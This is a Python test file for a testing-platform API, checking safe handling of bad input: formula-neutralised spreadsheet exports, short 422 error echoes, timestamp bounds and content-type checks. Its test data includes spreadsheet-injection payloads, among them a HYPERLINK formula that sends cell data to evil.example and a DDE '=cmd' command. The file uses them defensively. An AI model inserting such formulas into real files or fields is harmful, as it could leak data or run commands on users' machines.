"""Bad input through the HTTP API gets a clear error, never a 500 and never a leak, on SQLite and
PostgreSQL: spreadsheet exports write what people typed as text (never a live formula), a 422
echoes only a short part of the input and never a password, times far outside the platform's
life are refused naming the field, and a JSON body must say it is JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from hesuan.domain.sampling import make_tube_barcode
from hesuan.entrypoints.cli.app import app as cli_app
from hesuan.sim.example import make_resident_id
from tests.helpers import Api, Station

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"click me")'


# -- spreadsheets ----------------------------------------------------------------------------

def test_roster_workbook_writes_user_text_as_text_never_as_a_formula(api: Api) -> None:
    grid = api.city.grids[0]
    r = api.client.post("/people", headers=api.h("officer"), json={
        "id_number": make_resident_id(grid[:6], date(1990, 5, 17), 9001), "name": "张三",
        "grid_code": grid, "address": FORMULA, "household_id": "@SUM(1+1)"})
    assert r.status_code == 201, r.text
    r = api.client.get("/rosters/coverage.xlsx", params={"region": grid, "live": True},
                       headers=api.h("officer"))
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], formulas
    [address] = [c for c in cells if c.value == FORMULA]
    assert address.data_type == "s"
    assert next(c for c in cells if c.value == "@SUM(1+1)").data_type == "s"


def test_results_report_csv_neutralises_formula_cells(api: Api, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    settings = api.platform.settings
    for name, value in {"DATABASE_URL": settings.database_url, "ENVIRONMENT": "test",
                        "SECRET_KEY": "test-secret", "KEY_FILE": str(settings.key_file),
                        "PASS_KEY_DIR": str(settings.pass_key_dir),
                        "SMS_FILE": str(settings.sms_file)}.items():
        monkeypatch.setenv(f"HESUAN_{name}", value)
    bad = ["=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]
    src = tmp_path / "results.csv"
    with src.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["barcode", "result"])
        for b in bad:
            w.writerow([b, "negative"])
    report = tmp_path / "problems.csv"
    out = CliRunner().invoke(cli_app, ["results", "import", str(src), "--lab",
                                       api.city.labs["lab1"], "--report", str(report)])
    assert out.exit_code == 0, out.output
    with report.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(bad) and "'=cmd|' /C calc'!A0" in {r["barcode"] for r in rows}
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row


# -- 422 answers -----------------------------------------------------------------------------

SECRET = "S3cret-pa55word-"


def test_a_422_echoes_a_short_part_of_the_input_and_never_a_password(api: Api) -> None:
    huge = SECRET * (10 * 1024 * 1024 // len(SECRET))  # 10 MB
    cases: list[tuple[str, dict[str, Any]]] = [
        ("/auth/token", {"username": "admin", "password": huge}),
        ("/auth/token", {"password": SECRET}),  # missing username: input is the whole body
        ("/users", {"username": "x", "password": SECRET[:5], "role": "sampler"}),
        ("/users", {"username": "ab", "password": SECRET, "role": "nobody",
                    "token": SECRET, "client_secret": SECRET}),
    ]
    for path, body in cases:
        r = api.client.post(path, headers=api.h("admin"), json=body)
        assert r.status_code == 422, r.text
        assert SECRET[:6] not in r.text, (path, r.text[:500])
        assert len(r.content) < 4096, (path, len(r.content))
        assert r.json()["error"]["errors"], r.text
    # a long ordinary field: its start is echoed, cut short
    r = api.client.post("/people", headers=api.h("officer"), json={
        "id_number": "1" * 5_000_000, "name": "张三", "grid_code": api.city.grids[0]})
    assert r.status_code == 422 and len(r.content) < 4096, len(r.content)
    [err] = r.json()["error"]["errors"]
    assert err["loc"] == ["body", "id_number"] and err["input"].startswith("1111")
    # the station routes validate their own bodies, and answer the same way
    station = Station(api.city.sites["140105"], api.clock)
    event = station.ev("sample", barcode=make_tube_barcode(970_001), code="H" * 1_000_000)
    r = api.client.post("/scans", headers=api.h("sampler"), json=event)
    assert r.status_code == 422 and len(r.content) < 16384, len(r.content)
    assert r.json()["error"]["errors"][0]["loc"][-1] == "code"
    # a batch rejects each such item alone, naming the field and echoing none of it
    r = api.client.post("/scans/batch", headers=api.h("sampler"), json={"events": [event] * 100})
    assert r.status_code == 200 and "HHHHHHHH" not in r.text, len(r.content)
    assert {(x["reason"], x["field"]) for x in r.json()["results"]} == {("bad_code", "code")}


# -- times -----------------------------------------------------------------------------------

ANCIENT = "0001-01-01T00:00:00+00:00"
FAR = "9999-12-31T23:59:59-14:00"


def _staff_and_site(api: Api) -> tuple[str, str]:
    site = api.city.sites["140105"]
    team = api.client.post("/teams", headers=api.h("officer"), json={
        "name": "一队", "kind": "sampling", "place_kind": "site", "place_id": site})
    assert team.status_code == 201, team.text
    r = api.client.post("/staff", headers=api.h("officer"), json={
        "name": "采样员甲", "role": "swabber", "team_id": team.json()["id"]})
    assert r.status_code == 201, r.text
    return r.json()["id"], site


def _names_field(r: Any, field: str) -> None:
    assert r.status_code == 422, r.text
    errors = r.json()["error"]["errors"]
    assert any(e["loc"][-1] == field and ("2020" in e["msg"] or "2100" in e["msg"])
               for e in errors), errors


def test_shift_start_in_the_year_1_is_a_422_naming_the_field(api: Api) -> None:
    staff, site = _staff_and_site(api)
    body = {"staff_id": staff, "place_kind": "site", "place_id": site, "window": 1}
    for when in (ANCIENT, FAR, "2019-12-31T23:59:59+00:00"):
        _names_field(api.client.post("/shifts/start", headers=api.h("officer"),
                                     json=body | {"at": when}), "at")
        _names_field(api.client.post("/shifts/end", headers=api.h("officer"),
                                     json={"staff_id": staff, "at": when}), "at")
    ok = api.client.post("/shifts/start", headers=api.h("officer"),
                         json=body | {"at": api.clock.now().isoformat()})
    assert ok.status_code == 201, ok.text


def test_an_arrival_in_the_year_1_is_a_422_naming_the_field(api: Api) -> None:
    body = {"person_id": api.people(limit=1)[0],
            "checkpoint_site_id": api.city.sites["first_landing"],
            "origin_region": "4403", "origin_risk": "low"}
    for when in (ANCIENT, FAR):
        _names_field(api.client.post("/arrivals", headers=api.h("officer"),
                                     json=body | {"arrived_at": when}), "arrived_at")
    assert api.count("SELECT count(*) FROM arrivals") == 0


def _date_time_fields(schema: dict[str, Any], node: Any, path: tuple[str | int, ...]
                      ) -> list[tuple[tuple[str | int, ...], Any]]:
    """(location, a body that sets only that field) for every date-time in a request body."""
    if isinstance(node, dict) and "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
    if not isinstance(node, dict):
        return []
    if node.get("format") == "date-time":
        return [(path, None)]
    out: list[tuple[tuple[str | int, ...], Any]] = []
    for option in node.get("anyOf", []) + node.get("allOf", []):
        out += _date_time_fields(schema, option, path)
    for name, sub in node.get("properties", {}).items():
        out += _date_time_fields(schema, sub, (*path, name))
    if "items" in node:
        out += _date_time_fields(schema, node["items"], (*path, 0))
    return out


def _body_at(path: tuple[str | int, ...], value: str) -> Any:
    if not path:
        return value
    head, *rest = path
    inner = _body_at(tuple(rest), value)
    return [inner] if isinstance(head, int) else {head: inner}


def test_every_date_time_the_api_accepts_is_bounded(api: Api) -> None:
    schema = api.client.get("/openapi.json").json()
    checked = []
    for route, ops in schema["paths"].items():
        for method, op in ops.items():
            content = op.get("requestBody", {}).get("content", {}).get("application/json")
            if content is None:
                continue
            url = route.replace("{", "").replace("}", "")
            for loc, _ in _date_time_fields(schema, content["schema"], ()):
                if route in ("/scans/batch", "/lanes/batch"):
                    # a batch rejects the item alone, naming the rule (docs/API.md)
                    ev = Station(api.city.sites["140105"], api.clock).ev(
                        "open_tube", barcode=make_tube_barcode(970_101), mode=10)
                    for when in (ANCIENT, FAR):
                        r = api.client.post(url, headers=api.h("sampler"),
                                            json={"events": [ev | {"at": when}]})
                        assert [(x["reason"], x["field"]) for x in r.json()["results"]] == [
                            ("implausible_time", "at")], r.text
                    checked.append((method, route, loc))
                    continue
                for when in (ANCIENT, FAR):
                    r = api.client.request(method, url, headers=api.h("admin"),
                                           json=_body_at(loc, when))
                    assert r.status_code == 422, (method, route, loc, r.text)
                    errors = r.json()["error"]["errors"]
                    assert any(tuple(e["loc"][1:]) == loc and e["type"] in (
                        "greater_than_equal", "less_than") for e in errors), (route, errors)
                checked.append((method, route, loc))
    names = {(m, r) for m, r, _ in checked}
    for needed in (("post", "/scans"), ("post", "/shifts/start"), ("post", "/arrivals"),
                   ("post", "/people/{person_id}/exemptions"), ("post", "/zones"),
                   ("post", "/boxes/{box_code}/handover")):
        assert needed in names, needed
    assert len(checked) >= 15, checked


def test_a_zone_file_starting_in_the_year_1_is_refused_naming_the_field(api: Api) -> None:
    # a GeoJSON file's times are read by the service, not by the API's schema
    feature = {"type": "Feature", "geometry": None, "properties": {
        "name": "从文件", "kind": "precaution", "areas": [api.city.grids[1]],
        "starts_at": ANCIENT}}
    r = api.client.post("/zones/import", headers=api.h("officer"),
                        json={"type": "FeatureCollection", "features": [feature]})
    assert r.status_code == 200, r.text
    [out] = r.json()
    assert (out["status"], out["reason"], out["field"]) == (
        "rejected", "implausible_time", "starts_at"), out
    assert "starts_at" in out["message"]
    assert api.count("SELECT count(*) FROM zones") == 0


# -- media types -----------------------------------------------------------------------------

def test_json_sent_as_text_plain_is_refused(api: Api) -> None:
    station = Station(api.city.sites["140105"], api.clock)
    tube = make_tube_barcode(970_101)
    event = station.ev("open_tube", barcode=tube, mode=10)
    for ctype in ("text/plain", "text/plain;charset=utf-8", "application/x-www-form-urlencoded",
                  None):
        headers = api.h("sampler") | ({"Content-Type": ctype} if ctype else {})
        r = api.client.post("/scans", headers=headers, content=json.dumps(event))
        assert r.status_code == 422, (ctype, r.text)
        err = r.json()["error"]
        assert (err["code"], err["field"]) == ("not_json", "content-type"), err
        assert "application/json" in err["message"]
    assert api.count(f"SELECT count(*) FROM tubes WHERE barcode = '{tube}'") == 0
    r = api.client.post("/scans", headers=api.h("sampler") | {
        "Content-Type": "application/json; charset=utf-8"}, content=json.dumps(event))
    assert r.status_code == 200 and r.json()["status"] == "accepted", r.text


def test_every_json_body_route_requires_application_json(api: Api) -> None:
    schema = api.client.get("/openapi.json").json()
    seen = 0
    for route, ops in schema["paths"].items():
        for method, op in ops.items():
            if "application/json" not in op.get("requestBody", {}).get("content", {}):
                continue
            url = route.replace("{", "").replace("}", "")
            r = api.client.request(method, url, headers=api.h("admin") | {
                "Content-Type": "text/plain"}, content=b"{}")
            assert r.status_code == 422, (method, route, r.text)
            assert r.json()["error"]["code"] == "not_json", (method, route, r.text)
            seen += 1
    assert seen >= 30, seen
    # the page route that takes JSON too (the station's sync), checked before anything else
    r = api.client.post("/web/station/events.json", headers={"Content-Type": "text/plain"},
                        content=json.dumps({"events": []}))
    assert r.status_code == 422 and r.json()["error"]["code"] == "not_json", r.text
    # a multipart upload still goes through
    r = api.client.post(f"/labs/{api.city.labs['lab1']}/results.csv", headers=api.h("lab"),
                        files={"file": ("r.csv", b"barcode,result\n", "text/csv")})
    assert r.status_code == 200, r.text
